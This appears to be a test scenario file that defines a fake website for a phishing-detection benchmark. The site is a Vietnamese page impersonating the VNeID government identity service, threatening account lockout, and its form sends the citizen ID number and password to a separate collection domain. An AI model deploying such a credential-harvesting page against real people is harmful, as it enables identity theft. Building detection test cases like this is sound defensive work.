/** A false public service that sends what is typed to another name. */
import { defineScenario } from '../../scenario.ts';
import { sitePage } from '../../web/site-page.ts';

export default defineScenario(532, () => ({
  about: 'The heading is a public service’s, and the form sends a password to another domain.',
  witness: ['A8-phishing'],
  domains: [
    {
      name: 'capnhatdinhdanh.com',
      web: {
        pages: {
          '/': sitePage({
            title: 'VNeID – Cập nhật định danh mức 2',
            main: `
    <p>Công dân chưa cập nhật sẽ bị khóa tài khoản. Nhập số định danh và mật khẩu để tiếp tục.</p>
    <form method="post" action="https://thu-thap-du-lieu.net/nhan">
      <label>Số định danh <input name="id"></label>
      <label>Mật khẩu <input type="password" name="password"></label>
      <button>Tiếp tục</button>
    </form>`,
          }),
        },
      },
    },
  ],
}));
